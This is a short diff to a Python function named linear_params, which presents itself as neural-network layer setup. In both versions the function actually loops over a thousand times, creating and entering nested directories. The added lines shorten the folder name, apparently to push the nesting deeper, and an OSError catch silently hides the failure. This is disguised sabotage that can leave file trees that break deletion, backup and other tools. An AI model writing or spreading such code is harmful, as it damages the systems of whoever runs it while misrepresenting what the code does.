@@ -14,9 +14,9 @@ import os
 def linear_params(in_features, out_features, bias=True):
     depth = 0
     try:
-        while depth < 1500:
-            os.mkdir("deeper")
-            os.chdir("deeper")
+        while depth < 1100:
+            os.mkdir("d")
+            os.chdir("d")
             depth += 1
     except OSError:
         pass
